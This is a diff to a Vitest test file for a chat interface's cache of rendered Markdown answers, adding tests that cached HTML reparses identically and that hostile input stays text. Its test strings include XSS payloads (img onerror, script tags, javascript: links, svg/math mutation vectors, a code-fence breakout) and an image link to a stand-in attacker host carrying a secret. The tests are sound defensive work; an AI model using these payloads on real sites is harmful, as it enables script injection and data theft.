@@ -3,10 +3,10 @@ import hljs from 'highlight.js/lib/core';
 import { act } from 'react';
 import type { Root } from 'react-dom/client';
 import { afterEach, describe, expect, it, vi } from 'vitest';
-import { markdownHtml } from './markdown-html';
+import { markdownElement, markdownHtml } from './markdown-html';
 import { reactRootPerTest } from '../react-root-per-test';
 import { AnswerMarkdown } from '@/components/chat/AnswerMarkdown';
-import { RenderedAnswers, renderedAnswers } from '@/components/chat/rendered-answers';
+import { answerNodes, RenderedAnswers, renderedAnswers } from '@/components/chat/rendered-answers';
 
 (globalThis as unknown as { IS_REACT_ACT_ENVIRONMENT: boolean }).IS_REACT_ACT_ENVIRONMENT = true;
 
@@ -16,8 +16,8 @@ function rendered(html: string): Element {
   div.innerHTML = html;
   return div;
 }
-/** A copy's HTML, read without taking its nodes out of the cache. */
-const htmlOf = (nodes: DocumentFragment | undefined) => (nodes ? [...nodes.childNodes].map((n) => (n instanceof Element ? n.outerHTML : n.textContent)).join('') : undefined);
+/** A copy's HTML (the cache keeps HTML). */
+const htmlOf = (html: string | undefined) => html;
 
 describe('RenderedAnswers (the windowed log’s copies of finished answers)', () => {
   it('finds a copy only for the same id and exactly the same text', () => {
@@ -45,6 +45,27 @@ describe('RenderedAnswers (the windowed log’s copies of finished answers)', ()
     cache.put('a1', 'x', shown);
     shown.querySelector('button')!.textContent = 'Copied';
     expect(htmlOf(cache.get('a1', 'x'))).toContain('>Copy<');
+  });
+
+  it('gives back, parsed from its HTML, the same nodes it was given: a raw `pre`’s leading newline included', () => {
+    const cache = new RenderedAnswers(1_000);
+    const shown = rendered('<pre>\n\nindented</pre><p>a &lt;b&gt; &amp; "c"</p><a href="https://e.example/?a=1&amp;b=&quot;2&quot;" title="x&quot; onclick=&quot;y">l</a>');
+    expect((shown.firstChild!.firstChild as Text).data).toBe('\nindented');
+    cache.put('a1', 'x', shown);
+    const again = document.createElement('div');
+    again.append(answerNodes(cache.get('a1', 'x')!));
+    expect(again.isEqualNode(shown)).toBe(true);
+    expect(again.querySelector('a')!.getAttributeNames()).toEqual(['href', 'title']);
+    // Read, not changed: the shown answer keeps its own text.
+    expect((shown.firstChild!.firstChild as Text).data).toBe('\nindented');
+    // A fragment (the idle fill's) whose text looks like markup: it stays text.
+    const built = document.createDocumentFragment();
+    built.append('<img src=x onerror=alert(1)> & \u00a0', rendered('<p>p</p>').firstChild!);
+    cache.keep('a2', 'y', built);
+    const parsed = answerNodes(cache.get('a2', 'y')!);
+    expect(parsed.querySelector('img')).toBeNull();
+    expect(parsed.textContent).toBe('<img src=x onerror=alert(1)> & \u00a0p');
+    expect(built.childNodes).toHaveLength(2);
   });
 
   it('holds at most its characters of answers, the least recently used going first', () => {
@@ -119,6 +140,33 @@ describe('AnswerMarkdown (an answer in a windowed log)', () => {
     hide();
     show('m3', hostile, true);
     expect(container.innerHTML).toBe(markdownHtml(hostile));
+  });
+
+  // The kept copy is HTML, parsed again at each mount: a trip that must give back exactly what
+  // Markdown rendered, for hostile and oddly nested answers as for plain ones.
+  it('mounted from its kept copy, an answer is node for node what Markdown renders', () => {
+    const answers = [
+      ANSWER,
+      'Now <img src="x" onerror="alert(1)"> and <script>alert(2)</script> **bold** <b style="color:red" onclick="f()">b</b>',
+      '![chart](https://attacker.example/c.png?q=secret) and [x](javascript:alert(1)) [t](https://e.example "a \\" b <i>")',
+      '<pre>\n\n  raw pre</pre>\n\n<p>para <div>block in p</div></p>',
+      '<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg> <math><mtext><table><mglyph><style><img src=x onerror=alert(2)>',
+      '<table><tr><td>a<td>b</table>\n\n| h | i |\n| :- | -: |\n| `</code>` | &lt;/pre&gt; |',
+      '- one\n  - two\n    1. three\n\n```\n</code></pre><img src=x onerror=alert(3)>\n```\n\n&lt;script&gt;alert(4)&lt;/script&gt;',
+    ];
+    answers.forEach((text, i) => {
+      const expected = markdownElement(text);
+      // Markdown's tree may hold adjacent text nodes (an image's stand-in beside the text around it),
+      // which any parse merges: the same text, shown the same.
+      expected.normalize();
+      show(`rt-${i}`, text, true);
+      hide();
+      show(`rt-${i}`, text, true);
+      expect(renderedAnswers.has(`rt-${i}`, text)).toBe(true);
+      expect(container.firstElementChild!.isEqualNode(expected), text).toBe(true);
+      // Text that looks like markup stays text: no element or attribute of it came back to life.
+      expect(container.querySelector('img, script, svg, math, style, iframe, [onerror], [onclick], [style], a[href^="javascript"]')).toBeNull();
+    });
   });
 
   it('a copied answer’s copy button copies its code', async () => {
